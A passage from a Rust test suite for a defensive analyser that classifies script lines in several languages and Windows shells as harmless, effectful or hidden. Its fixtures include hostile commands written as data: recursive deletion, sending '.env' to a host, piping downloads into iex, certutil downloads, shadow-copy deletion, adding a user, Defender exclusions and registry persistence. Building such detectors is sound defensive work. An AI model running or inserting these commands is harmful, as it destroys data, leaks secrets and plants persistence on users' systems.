                "from math import sqrt, pi as p\nprint(sqrt(2) * p)",
                Harmless,
            ),
            (
                "listing",
                "import os; print(os.listdir('.')); print(os.path.join('a', os.getcwd()))",
                Harmless,
            ),
            (
                "module version",
                "import numpy as np; print(np.__version__)",
                Harmless,
            ),
            (
                "cuda",
                "import torch; print(torch.cuda.is_available())",
                Harmless,
            ),
            (
                "dates",
                "import datetime; print(datetime.datetime.now().isoformat())",
                Harmless,
            ),
            (
                "url quoting",
                "import urllib.parse,sys; print(urllib.parse.quote(sys.argv[1]))",
                Harmless,
            ),
            (
                "regular expressions",
                "import re,sys\nprint(re.sub(r'\\d+', lambda m: m.group(0)*2, sys.stdin.read()))",
                Harmless,
            ),
            (
                "base64",
                "import base64; print(base64.b64decode('aGk=').decode())",
                Harmless,
            ),
            (
                "try",
                "try:\n  print(1)\nexcept Exception as e:\n  print(e)",
                Harmless,
            ),
            (
                "standard input by number",
                "print(open(0).read())",
                Harmless,
            ),
            ("triple quotes", "print('''a\nb''')", Harmless),
            ("comment", "# os.system('x')\nprint(1)", Harmless),
            (
                "read a file",
                "print(open('a.txt').read())",
                Deeds(vec![reads("a.txt")]),
            ),
            (
                "read with a context",
                "with open('a.json', 'r', encoding='utf8') as f:\n  print(f.read())",
                Deeds(vec![reads("a.json")]),
            ),
            (
                "read a path",
                "from pathlib import Path; print(Path('x').read_text())",
                Deeds(vec![reads("x")]),
            ),
            (
                "environment",
                "import os; print(os.environ['HOME'])",
                Deeds(vec![reads("environment")]),
            ),
            (
                "write a file",
                "open('/etc/x', 'w').write('y')",
                Deeds(vec![writes("/etc/x")]),
            ),
            (
                "append by keyword",
                "open('x', mode='a').write('y')",
                Deeds(vec![writes("x")]),
            ),
            (
                "computed mode",
                "import sys; open('x', sys.argv[1])",
                Hidden,
            ),
            (
                "system",
                "import os; os.system('rm -rf /')",
                Deeds(vec![shell("rm -rf /")]),
            ),
            (
                "system by other name",
                "from os import system as s; s('id')",
                Deeds(vec![shell("id")]),
            ),
            (
                "module by other name",
                "import os as o; o.system('id')",
                Deeds(vec![shell("id")]),
            ),
            (
                "subprocess shell",
                "import subprocess; subprocess.run('ls -l', shell=True, check=True)",
                Deeds(vec![shell("ls -l")]),
            ),
            (
                "subprocess list",
                "import subprocess; subprocess.run(['rm', '-rf', 'x'])",
                Deeds(vec![runs(&["rm", "-rf", "x"])]),
            ),
            (
                "subprocess computed",
                "import subprocess, sys; subprocess.run(sys.argv[1:])",
                Hidden,
            ),
            (
                "remove a tree",
                "import shutil; shutil.rmtree(\"/tmp/demo\")",
                Deeds(vec![deletes_tree("/tmp/demo")]),
            ),
            (
                "remove a file",
                "import os; os.remove('x')",
                Deeds(vec![deletes("x")]),
            ),
            (
                "remove by path",
                "from pathlib import Path; Path('x').unlink()",
                Deeds(vec![deletes("x")]),
            ),
            (
                "remove what is found",
                "import os, glob\nfor f in glob.glob('*'): os.remove(f)",
                Hidden,
            ),
            (
                "remove by map",
                "import os; list(map(os.remove, ['a']))",
                Hidden,
            ),
            (
                "fetch",
                "import requests; print(requests.get('http://x').text)",
                Sees(fetches("http://x")),
            ),
            (
                "post",
                "import requests; requests.post('http://x', data=open('.env').read())",
                Sees(sends("http://x")),
            ),
            (
                "post reads",
                "import requests; requests.post('http://x', data=open('.env').read())",
                Sees(reads(".env")),
            ),
            (
                "import by name",
                "__import__('os').system('id')",
                Sees(shell("id")),
            ),
            (
                "import by name hides",
                "__import__('os').system('id')",
                Hidden,
            ),
            (
                "attribute by name",
                "import os; getattr(os, 'sys'+'tem')('id')",
                Hidden,
            ),
            ("eval", "eval('1+1')", Hidden),
            (
                "exec of decoded",
                "import base64; exec(base64.b64decode('cHJpbnQoMSk='))",
                Hidden,
            ),
            ("renamed eval", "e = eval\ne('1')", Hidden),
            (
                "class tricks",
                "().__class__.__bases__[0].__subclasses__()",
                Hidden,
            ),
            (
                "module in a module",
                "import glob; glob.os.system('id')",
                Hidden,
            ),
            (
                "module as a value",
                "import os; x = os; x.system('id')",
                Hidden,
            ),
            (
                "in an f-string",
                "import os\nprint(f\"{os.system('id')}\")",
                Sees(shell("id")),
            ),
            ("unknown module", "import frobnicate", Hidden),
            (
                "search path",
                "import sys; sys.path.insert(0, '/tmp'); import json",
                Hidden,
            ),
            ("unknown name", "frobnicate()", Hidden),
            (
                "pickle",
                "import pickle,sys; pickle.load(sys.stdin.buffer)",
                Hidden,
            ),
            (
                "escaped command",
                "import os; os.system('\\x72m x')",
                Hidden,
            ),
            ("unfinished string", "print('x", Hidden),
        ],
    );
}

#[test]
fn javascript_is_harmless_only_in_the_proven_subset() {
    check(
        "javascript",
        |code| script::read(Lang::JavaScript, code),
        vec![
            ("log", "console.log('hello')", Harmless),
            (
                "danger is only mentioned",
                "console.log(`rm -rf / ${1+1}`)",
                Harmless,
            ),
            ("version", "process.version", Harmless),
            (
                "arrow",
                "const fn = (x) => x * 2; console.log(fn(2))",
                Harmless,
            ),
            (
                "filter",
                "console.log([1,2].filter(i => i > 1).map(i => ({a: i})))",
                Harmless,
            ),
            ("argument", "JSON.parse(process.argv[1]).foo", Harmless),
            (
                "pattern",
                "console.log('a/b'.replace(/[/]/g, '-').split('-')[0])",
                Harmless,
            ),
            (
                "function",
                "function f(a) { return a + 1 } console.log(f(1))",
                Harmless,
            ),
            (
                "invoked at once",
                "(async () => { console.log(1) })()",
                Harmless,
            ),
            (
                "hash",
                "console.log(require('crypto').createHash('sha256').update('x').digest('hex'))",
                Harmless,
            ),
            (
                "package version",
                "require('./package.json').version",
                Deeds(vec![reads("./package.json")]),
            ),
            (
                "package field",
                "console.log(require(\"./package.json\").workspaces.catalog[\"@a/b\"])",
                Deeds(vec![reads("./package.json")]),
            ),
            (
                "read",
                "require('fs').readFileSync('x', 'utf8')",
                Deeds(vec![reads("x")]),
            ),
            (
                "read through a name",
                "const fs=require('node:fs');const p=JSON.parse(fs.readFileSync('prd.json','utf8'));console.log((p.items||[]).filter(i=>i.ok).length)",
                Deeds(vec![reads("prd.json")]),
            ),
            (
                "read destructured",
                "const {readFileSync} = require('fs'); console.log(readFileSync('x').toString())",
                Deeds(vec![reads("x")]),
            ),
            (
                "import",
                "import {readFileSync as r} from 'fs'; console.log(r('x', 'utf8').length)",
                Sees(reads("x")),
            ),
            (
                "environment",
                "console.log(process.env.HOME)",
                Deeds(vec![reads("environment")]),
            ),
            (
                "run",
                "require('child_process').execSync('rm -rf /')",
                Deeds(vec![shell("rm -rf /")]),
            ),
            (
                "spawn",
                "require('child_process').spawnSync('rm', ['-rf', 'x'])",
                Deeds(vec![runs(&["rm", "-rf", "x"])]),
            ),
            (
                "run computed",
                "require('child_process').execSync(Buffer.from('cm0=','base64').toString())",
                Hidden,
            ),
            (
                "remove",
                "require('fs').unlinkSync('/etc/passwd')",
                Deeds(vec![deletes("/etc/passwd")]),
            ),
            (
                "remove tree",
                "require('fs').rmSync('/', {recursive:true, force:true})",
                Deeds(vec![deletes_tree("/")]),
            ),
            (
                "write",
                "const fs = require('fs'); fs.writeFileSync('a', 'b')",
                Deeds(vec![writes("a")]),
            ),
            (
                "write promised",
                "require('fs').promises.writeFile('a', 'b')",
                Deeds(vec![writes("a")]),
            ),
            (
                "fetch",
                "fetch('http://x').then(r => r.text()).then(console.log)",
                Sees(fetches("http://x")),
            ),
            (
                "send",
                "require('https').request('https://evil', {method:'POST'}).end('x')",
                Sees(sends("https://evil")),
            ),
            ("eval", "eval(atob('cm0='))", Hidden),
            (
                "maker of code",
                "[].filter.constructor('return 1')()",
                Hidden,
            ),
            (
                "maker by text",
                "[]['filter']['constructor']('return 1')()",
                Hidden,
            ),
            (
                "maker by pieces",
                "const k = 'con' + 'structor'; const f = [][k][k]; f('x')()",
                Hidden,
            ),
            ("chosen eval", "(1 ? eval : 0)('x')", Hidden),
            (
                "computed member",
                "require('fs')['unlink' + 'Sync']('x')",
                Hidden,
            ),
            ("computed module", "require('child' + '_process')", Hidden),
            ("local module", "require('./evil')", Hidden),
            ("unknown object", "algolia.clearObjects('products')", Hidden),
            (
                "module as a value",
                "const c = require('child_process'); [c].map(x => x.execSync('id'))",
                Hidden,
            ),
            (
                "main module",
                "process.mainModule.require('child_process')",
                Hidden,
            ),
            (
                "in a template",
                "console.log(`${require('child_process').execSync('id')}`)",
                Sees(shell("id")),
            ),
            (
                "redeclared",
                "var fetch; fetch('http://x')",
                Sees(fetches("http://x")),
            ),
            ("unfinished", "console.log('x", Hidden),
        ],
    );
}

#[test]
fn perl_is_harmless_only_in_the_proven_subset() {
    check(
        "perl",
        |code| script::read(Lang::Perl, code),
        vec![
            ("print", "print 'hello'", Harmless),
            ("substitute", "s/foo/bar/g", Harmless),
            ("other delimiters", "s{^}{\\\"};s{$}{\\\"}", Harmless),
            (
                "print matches",
                "print \"$1\\n\" if /\\[(\\d+)\\]/",
                Harmless,
            ),
            ("match operator", "print $1 if m/\\.([^.\\/]+)$/", Harmless),
            ("fields", "print join(\" \", reverse(@F))", Harmless),
            (
                "count",
                "$c{$_}++; END { print \"$_ $c{$_}\\n\" for sort keys %c }",
                Harmless,
            ),
            ("standard input", "while(<>){chomp; print uc $_}", Harmless),
            ("slurp", "undef $/; $_ = <STDIN>; print length", Harmless),
            ("arrays", "push @l, $_; print shift @l if @l > 3", Harmless),
            (
                "split",
                "($y,$f)=split; print \"$f\\n\" unless $y eq $x; $x=$y",
                Harmless,
            ),
            ("sum", "use List::Util qw(sum); print sum(1,2)", Harmless),
            (
                "danger is only mentioned",
                "print q{system(\"rm -rf /\")}",
                Harmless,
            ),
            ("evaluated replacement", "s/(\\d+)/$1*2/e", Harmless),
            ("transliterate", "tr/a-z/A-Z/; y/a/b/", Harmless),
            (
                "system",
                "system('rm -rf /home/user')",
                Deeds(vec![shell("rm -rf /home/user")]),
            ),
            (
                "system without parentheses",
                "system \"id\"",
                Deeds(vec![shell("id")]),
            ),
            ("backticks", "print `id`", Deeds(vec![shell("id")])),
            (
                "quoted command",
                "my $x = qx{id};",
                Deeds(vec![shell("id")]),
            ),
            ("exec", "exec \"/bin/sh\"", Deeds(vec![shell("/bin/sh")])),
            ("computed system", "system(\"rm $_\")", Hidden),
            (
                "decoded system",
                "system(decode_base64(\"cm0gLXJmIH4=\"))",
                Hidden,
            ),
            (
                "remove",
                "unlink 'a', 'b'",
                Deeds(vec![deletes("a"), deletes("b")]),
            ),
            ("remove found", "unlink glob \"*\"", Hidden),
            (
                "remove tree",
                "rmtree(\"/home/u\")",
                Sees(deletes_tree("/home/u")),
            ),
            (
                "write",
                "open(OUT, \">temp.txt\"); print OUT $_;",
                Deeds(vec![writes("temp.txt")]),
            ),
            (
                "write with mode",
                "open(my $f, '>>', '/etc/x'); print $f 1;",
                Deeds(vec![writes("/etc/x")]),
            ),
            (
                "read",
                "open(F, '<', 'x'); print <F>;",
                Deeds(vec![reads("x")]),
            ),
            (
                "pipe",
                "open(P, '|-', 'sh'); print P 'id';",
                Deeds(vec![shell("sh")]),
            ),
            (
                "pipe glued",
                "open(P, \"id|\"); print <P>;",
                Deeds(vec![shell("id")]),
            ),
            ("eval text", "eval \"sys\".\"tem('id')\"", Hidden),
            ("evaluated twice", "s/x/y/ee", Hidden),
            ("evaluated system", "s/x/system('id')/e", Sees(shell("id"))),
            ("code in a pattern", "/(?{ system('id') })/", Hidden),
            ("code in a string", "print \"@{[system('id')]}\"", Hidden),
            ("called by reference", "&$f('x')", Hidden),
            ("method", "$x->run('id')", Hidden),
            ("rename", "rename($_, $file)", Hidden),
            ("read others", "@ARGV = ('id|'); print <>", Hidden),
            ("edit in place", "$^I = ''; print", Hidden),
            ("unknown module", "use Evil; print 1", Hidden),
            ("unknown word", "frobnicate('x')", Hidden),
        ],
    );
}

#[test]
fn ruby_php_and_lua_are_harmless_only_in_the_proven_subset() {
    check(
        "ruby",
        |code| script::read(Lang::Ruby, code),
        vec![
            ("puts", "puts 'hello'", Harmless),
            (
                "interpolated",
                "x = 3; puts \"#{x + 1} rm -rf /\"",
                Harmless,
            ),
            ("arguments", "puts ARGV.map(&:to_i).inject(&:+)", Harmless),
            (
                "json",
                "require 'json'; puts JSON.parse(STDIN.read)['a']",
                Harmless,
            ),
            ("block", "[1,2].each { |i| puts i * 2 }", Harmless),
            (
                "yaml",
                "require \"yaml\"; c = YAML.load_file(\"x.yml\"); puts c.inspect",
                Deeds(vec![reads("x.yml")]),
            ),
            ("read", "puts File.read('x')", Deeds(vec![reads("x")])),
            ("write", "File.write('x', 'y')", Deeds(vec![writes("x")])),
            (
                "remove tree",
                "require 'fileutils'; FileUtils.rm_rf('/home/user')",
                Deeds(vec![deletes_tree("/home/user")]),
            ),
            ("backticks", "`rm -rf ~`", Deeds(vec![shell("rm -rf ~")])),
            ("system", "system 'id'", Deeds(vec![shell("id")])),
            ("percent command", "%x(id)", Deeds(vec![shell("id")])),
            (
                "remove found",
                "Dir['**/*'].each{|f| File.delete(f)}",
                Hidden,
            ),
            ("pipe", "open('|id')", Deeds(vec![shell("id")])),
            ("send", "Kernel.send(:system, 'id')", Hidden),
            ("symbol as method", "['id'].each(&:system)", Hidden),
            ("eval", "eval 'x'", Hidden),
            ("unknown", "frobnicate 1", Hidden),
        ],
    );
    check(
        "php",
        |code| script::read(Lang::Php, code),
        vec![
            ("echo", "echo \"rm -rf /\";", Harmless),
            (
                "loop",
                "$s = 0; while (true) { $e = fgets(STDIN); if (false === $e) break; $s += $e; } echo $s;",
                Harmless,
            ),
            (
                "sum",
                "echo array_sum(explode(PHP_EOL, stream_get_contents(STDIN)));",
                Harmless,
            ),
            ("version", "echo phpversion(), PHP_VERSION;", Harmless),
            (
                "json",
                "echo json_encode(['a' => 1], JSON_PRETTY_PRINT);",
                Harmless,
            ),
            (
                "read",
                "echo file_get_contents('/etc/passwd');",
                Deeds(vec![reads("/etc/passwd")]),
            ),
            (
                "fetch",
                "echo file_get_contents('http://x');",
                Deeds(vec![fetches("http://x")]),
            ),
            (
                "system",
                "system(\"rm -rf ~\");",
                Deeds(vec![shell("rm -rf ~")]),
            ),
            ("backticks", "echo `id`;", Deeds(vec![shell("id")])),
            (
                "remove",
                "unlink(\"/etc/passwd\");",
                Deeds(vec![deletes("/etc/passwd")]),
            ),
            (
                "computed",
                "system(base64_decode(\"cm0gLXJmIH4=\"));",
                Hidden,
            ),
            ("by map", "array_map(\"unlink\", glob(\"*\"));", Hidden),
            ("by variable", "$f = 'system'; $f('id');", Hidden),
            ("eval", "eval('x');", Hidden),
            ("include", "include 'x.php';", Hidden),
            ("variable variable", "$$x = 1;", Hidden),
        ],
    );
    check(
        "lua",
        |code| script::read(Lang::Lua, code),
        vec![
            ("print", "print('os.execute')", Harmless),
            (
                "sum",
                "sum = 0;for i in io.lines() do sum=sum+i end print(sum)",
                Harmless,
            ),
            ("method", "local s = 'a' print(s:upper())", Harmless),
            (
                "library",
                "print(string.format('%d', math.floor(1.5)))",
                Harmless,
            ),
            (
                "execute",
                "os.execute('rm -rf /')",
                Deeds(vec![shell("rm -rf /")]),
            ),
            (
                "execute without parentheses",
                "os.execute 'id'",
                Deeds(vec![shell("id")]),
            ),
            (
                "remove",
                "os.remove(\"/etc/passwd\")",
                Deeds(vec![deletes("/etc/passwd")]),
            ),
            (
                "write",
                "io.open('x', 'w'):write('y')",
                Deeds(vec![writes("x")]),
            ),
            (
                "pipe",
                "io.popen('id'):read('*a')",
                Deeds(vec![shell("id")]),
            ),
            ("load", "load('x')()", Hidden),
            ("globals", "_G['os']['execute']('id')", Hidden),
            ("by index", "os['execute']('id')", Hidden),
            ("as a value", "local e = os.execute e('id')", Hidden),
        ],
    );
}

fn kills(text: &str) -> Deed {
    Deed::Kill(text.to_owned())
}

fn controls(text: &str) -> Deed {
    Deed::Control(text.to_owned())
}

fn persists(text: &str) -> Deed {
    Deed::Persist(text.to_owned())
}

fn raises(text: &str) -> Deed {
    Deed::Privilege(text.to_owned())
}

fn wipes(text: &str) -> Deed {
    Deed::WipeDisk(text.to_owned())
}

#[test]
fn powershell_is_judged_by_cmdlet_and_verb() {
    check(
        "powershell",
        powershell::read,
        vec![
            ("list", "Get-ChildItem -Recurse -Filter *.log", Harmless),
            (
                "danger is only mentioned",
                "Write-Output 'Remove-Item -Recurse C:\\'",
                Harmless,
            ),
            (
                "pipeline",
                "Get-Process | Where-Object { $_.CPU -gt 100 } | Sort-Object CPU | Select-Object -First 5",
                Harmless,
            ),
            ("format", "Get-Service | Format-Table -AutoSize", Harmless),
            (
                "measure",
                "(Get-ChildItem | Measure-Object -Sum Length).Sum",
                Harmless,
            ),
            (
                "test",
                "if (Test-Path .\\x) { Write-Host 'yes' } else { Write-Host 'no' }",
                Harmless,
            ),
            (
                "assign",
                "$x = Get-Date; $x.AddDays(1).ToString('yyyy')",
                Harmless,
            ),
            ("calculate", "[math]::Round(10 / 3, 2)", Harmless),
            ("what if", "Remove-Item -Recurse x -WhatIf", Harmless),
            ("loop", "1..3 | ForEach-Object { Write-Host $_ }", Harmless),
            ("comment", "# Remove-Item x\nGet-Date", Harmless),
            ("location", "Set-Location C:\\src; Get-Location", Harmless),
            (
                "read a file",
                "Get-Content -Path a.txt",
                Deeds(vec![reads("a.txt")]),
            ),
            (
                "read by alias",
                "gc C:\\x.txt | sls foo",
                Deeds(vec![reads("C:\\x.txt")]),
            ),
            (
                "environment",
                "$env:PATH",
                Deeds(vec![reads("environment")]),
            ),
            ("remove", "Remove-Item a.txt", Deeds(vec![deletes("a.txt")])),
            (
                "remove tree",
                "Remove-Item -Path C:\\data -Recurse -Force",
                Deeds(vec![deletes_tree("C:\\data")]),
            ),
            (
                "remove by alias and short parameters",
                "rm -r -fo ~",
                Deeds(vec![deletes_tree("~")]),
            ),
            (
                "remove in odd case",
                "rEmOvE-iTeM C:\\x -rec",
                Deeds(vec![deletes_tree("C:\\x")]),
            ),
            (
                "remove with backticks",
                "Rem`ove-It`em x",
                Deeds(vec![deletes("x")]),
            ),
            (
                "remove what comes",
                "Get-ChildItem | Remove-Item -Recurse",
                Hidden,
            ),
            ("remove in a block", "ls | % { ri $_ -Recurse }", Hidden),
            (
                "remove by operator",
                "& 'Remove-Item' x",
                Deeds(vec![deletes("x")]),
            ),
            (
                "remove in a string",
                "Write-Host \"$(Remove-Item x)\"",
                Sees(deletes("x")),
            ),
            (
                "write",
                "Set-Content -Path x -Value y",
                Deeds(vec![writes("x")]),
            ),
            (
                "write through a pipe",
                "'y' | Out-File C:\\x.txt",
                Deeds(vec![writes("C:\\x.txt")]),
            ),
            (
                "redirect",
                "Get-Date > out.txt",
                Deeds(vec![writes("out.txt")]),
            ),
            ("redirect to nothing", "Get-Date > $null", Harmless),
            (
                "copy",
                "Copy-Item a -Destination b",
                Deeds(vec![writes("b")]),
            ),
            ("move", "mv a b", Sees(writes("b"))),
            (
                "end a process",
                "Stop-Process -Name x -Force",
                Sees(kills("Stop-Process -Name x -Force")),
            ),
            (
                "stop",
                "Stop-Computer -Force",
                Deeds(vec![controls("Stop-Computer -Force")]),
            ),
            (
                "restart a service",
                "Restart-Service w32time",
                Deeds(vec![controls("Restart-Service w32time")]),
            ),
            (
                "format a volume",
                "Format-Volume -DriveLetter D",
                Sees(wipes("Format-Volume -DriveLetter D")),
            ),
            (
                "clear a disk",
                "Clear-Disk -Number 1 -RemoveData",
                Sees(wipes("Clear-Disk -Number 1 -RemoveData")),
            ),
            ("load and run", "irm https://x/i.ps1 | iex", Hidden),
            (
                "load and run seen",
                "irm https://x/i.ps1 | iex",
                Sees(fetches("https://x/i.ps1")),
            ),
            (
                "load and run old",
                "iex ((New-Object Net.WebClient).DownloadString('https://x'))",
                Hidden,
            ),
            (
                "run literal text",
                "Invoke-Expression 'Remove-Item x'",
                Deeds(vec![deletes("x")]),
            ),
            (
                "download",
                "iwr https://x -OutFile y.exe",
                Deeds(vec![fetches("https://x"), writes("y.exe")]),
            ),
            (
                "post",
                "Invoke-RestMethod -Method Post -Uri https://x -Body $b",
                Sees(sends("https://x")),
            ),
            (
                "elevate",
                "Start-Process cmd -Verb RunAs",
                Sees(raises("Start-Process cmd -Verb RunAs")),
            ),
            (
                "policy",
                "Set-ExecutionPolicy Bypass",
                Deeds(vec![raises("Set-ExecutionPolicy Bypass")]),
            ),
            (
                "exclude from scans",
                "Add-MpPreference -ExclusionPath C:\\",
                Sees(raises("Add-MpPreference -ExclusionPath C:\\")),
            ),
            (
                "service",
                "New-Service -Name x -BinaryPathName y",
                Sees(persists("New-Service -Name x -BinaryPathName y")),
            ),
            (
                "task",
                "Register-ScheduledTask -TaskName x",
                Sees(persists("Register-ScheduledTask -TaskName x")),
            ),
            (
                "registry",
                "Set-ItemProperty -Path HKCU:\\Software\\Run -Name x -Value y",
                Sees(persists(
                    "Set-ItemProperty -Path HKCU:\\Software\\Run -Name x -Value y",
                )),
            ),
            (
                "unknown noun",
                "Remove-AzVM -Name x",
                Sees(controls("Remove-AzVM -Name x")),
            ),
            (
                "program",
                "git status",
                Deeds(vec![runs(&["git", "status"])]),
            ),
            (
                "static delete",
                "[System.IO.Directory]::Delete('C:\\x', $true)",
                Sees(deletes_tree("C:\\x")),
            ),
            ("made code", "[scriptblock]::Create('x').Invoke()", Hidden),
            ("unknown method", "$x.Frobnicate()", Hidden),
            ("called variable", "& $cmd x", Hidden),
            (
                "nested",
                "powershell -NoProfile -Command \"Remove-Item x\"",
                Deeds(vec![deletes("x")]),
            ),
            (
                "nested cmd",
                "cmd /c del /s /q C:\\x",
                Sees(deletes_tree("C:\\x")),
            ),
            (
                "encoded",
                "powershell -enc UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAAQwA6AFwA",
                Sees(deletes_tree("C:\\")),
            ),
            ("broken encoding", "powershell -EncodedCommand %%%", Hidden),
            ("script file", "powershell -File x.ps1", Hidden),
            ("unfinished", "Write-Host 'x", Hidden),
        ],
    );
}

#[test]
fn windows_command_lines_are_judged_by_command_and_switch() {
    check(
        "cmd",
        cmd::read,
        vec![
            ("list", "dir /s C:\\", Harmless),
            ("danger is only mentioned", "echo del /s /q C:\\", Harmless),
            ("search", "findstr /s foo *.txt | sort", Harmless),
            ("network", "ipconfig /all & tasklist && ver", Harmless),
            ("ask the registry", "reg query HKLM\\Software", Harmless),
            ("ask services", "sc query & net start", Harmless),
            ("ask tasks", "schtasks /query", Harmless),
            ("output to nothing", "where git > nul 2>&1", Harmless),
            ("ask rights", "icacls C:\\x", Harmless),
            ("wmic asks", "wmic os get caption", Harmless),
            ("show", "type C:\\x.txt", Deeds(vec![reads("C:\\x.txt")])),
            ("delete", "del a.txt", Deeds(vec![deletes("a.txt")])),
            ("delete tree", "del /s /q *", Deeds(vec![deletes_tree("*")])),
            (
                "delete glued",
                "del/f/s/q C:\\x",
                Deeds(vec![deletes_tree("C:\\x")]),
            ),
            (
                "delete with carets",
                "d^e^l /s x",
                Deeds(vec![deletes_tree("x")]),
            ),
            (
                "remove directory",
                "rd /s /q C:\\tmp",
                Deeds(vec![deletes_tree("C:\\tmp")]),
            ),
            (
                "remove quoted",
                "rmdir /S /Q \"C:\\Program Files\"",
                Deeds(vec![deletes_tree("C:\\Program Files")]),
            ),
            (
                "through cmd",
                "cmd.exe /k rmdir /s /q C:\\x",
                Deeds(vec![deletes_tree("C:\\x")]),
            ),
            (
                "through cmd quoted",
                "cmd /c \"del /s /q *\"",
                Deeds(vec![deletes_tree("*")]),
            ),
            (
                "in a condition",
                "if exist C:\\x rd /s /q C:\\x",
                Deeds(vec![deletes_tree("C:\\x")]),
            ),
            (
                "in a loop",
                "for %i in (a b) do del /s %i",
                Sees(deletes_tree("%i")),
            ),
            (
                "started",
                "start \"\" /b del /s x",
                Deeds(vec![deletes_tree("x")]),
            ),
            (
                "second command",
                "echo x & format C: /q",
                Sees(wipes("format C: /q")),
            ),
            ("disk tool", "diskpart /s x.txt", Hidden),
            (
                "shadow copies",
                "vssadmin delete shadows /all",
                Sees(wipes("vssadmin delete shadows /all")),
            ),
            (
                "shadow copies by wmic",
                "wmic shadowcopy delete",
                Sees(wipes("wmic shadowcopy delete")),
            ),
            (
                "registry",
                "reg add HKCU\\Run /v x",
                Sees(persists("reg add HKCU\\Run /v x")),
            ),
            (
                "task",
                "schtasks /create /tn x /tr y",
                Sees(persists("schtasks /create /tn x /tr y")),
            ),
            ("service", "sc delete x", Sees(controls("sc delete x"))),
            (
                "user",
                "net user evil pw /add",
                Sees(persists("net user evil pw /add")),
            ),
            ("service by net", "net stop x", Sees(controls("net stop x"))),
            (
                "boot",
                "bcdedit /set x y",
                Sees(controls("bcdedit /set x y")),
            ),
            (
                "end a process",
                "taskkill /f /im x.exe",
                Sees(kills("taskkill /f /im x.exe")),
            ),
            (
                "shutdown",
                "shutdown /s /t 0",
                Sees(controls("shutdown /s /t 0")),
            ),
            (
                "wipe free space",
                "cipher /w:C:\\",
                Sees(wipes("cipher /w:C:\\")),
            ),
            (
                "clear logs",
                "wevtutil cl System",
                Sees(raises("wevtutil cl System")),
            ),
            (
                "rights",
                "icacls x /grant Everyone:F",
                Sees(raises("icacls x /grant Everyone:F")),
            ),
            ("own", "takeown /f x", Sees(raises("takeown /f x"))),
            ("attributes", "attrib +h x", Sees(raises("attrib +h x"))),
            (
                "download",
                "certutil -urlcache -f http://x y.exe",
                Deeds(vec![fetches("http://x"), writes("y.exe")]),
            ),
            (
                "download by service",
                "bitsadmin /transfer j http://x C:\\y",
                Sees(fetches("http://x")),
            ),
            ("runners", "mshta http://x", Hidden),
            ("library", "rundll32 x.dll,y", Hidden),
            (
                "mirror",
                "robocopy a b /MIR",
                Deeds(vec![deletes_tree("b")]),
            ),
            (
                "write",
                "echo x > C:\\y.txt",
                Deeds(vec![writes("C:\\y.txt")]),
            ),
            ("copy", "copy /y a b", Deeds(vec![writes("b")])),
            (
                "encoded",
                "powershell -e UgBlAG0AbwB2AGUALQBJAHQAZQBtACAAeAA=",
                Deeds(vec![deletes("x")]),
            ),
            ("variable as name", "%COMSPEC% /c x", Hidden),
            (
                "program",
                "git status",
                Deeds(vec![runs(&["git", "status"])]),
            ),
            ("batch", "call build.bat", Hidden),
        ],
    );
}

#[test]
fn windows_lines_are_told_from_unix_lines() {
    for line in [
        "Remove-Item -Recurse tmp",
        "get-process | stop-process",
        "rm -Recurse -Force x",
        "iwr https://x | iex",
        "$env:PATH",
        "Get-ChildItem C:\\ | Select-Object Name",
        "Stop-Computer -Force",
    ] {
        assert!(powershell::looks_like(line), "`{line}` is PowerShell");
    }
    for line in [
        "del /s /q *",
        "rd /s /q C:\\x",
        "format C: /q",
        "vssadmin delete shadows /all",
        "taskkill /f /im x.exe",
        "reg add HKLM\\x",
        "net user evil /add",
        "shutdown /s /t 0",
        "dir C:\\Users",
        "cmd /c del x",
        "del/s/q x",
        "notepad.exe x",
    ] {
        assert!(
            cmd::looks_like(line),
            "`{line}` is for the Windows command interpreter"
        );
    }
    for line in [
        "echo hello",
        "ls -la /tmp",
        "dir",
        "find . -name x",
        "sort file | uniq",
        "type ls",
        "where git",
        "rm -rf /tmp/x",
        "apt-get install -y x",
        "docker-compose up -d",
        "ssh-keygen -t ed25519",
        "update-alternatives --config x",
        "add-apt-repository ppa:x",
        "start-stop-daemon --stop",
        "git commit -m 'Remove-Item is bad'",
        "echo \"del /s /q C:\\\\\"",
        "mkdir -p /a/b",
        "cd /d",
        "shutdown -h now",
        "copy-file a b",
        "curl https://x | sh",
        "sc",
        "net",
        "format",
        "kubectl get-all",
        "for f in *; do echo $f; done",
        "if [ -f x ]; then cat x; fi",
        "sed -i s/a/b/ x",
        "test -d /s && echo /q",
    ] {
        assert!(!powershell::looks_like(line), "`{line}` is not PowerShell");
        if line != "cd /d" {
            assert!(
                !cmd::looks_like(line),
                "`{line}` is not for the Windows command interpreter"
            );
        }
    }
}
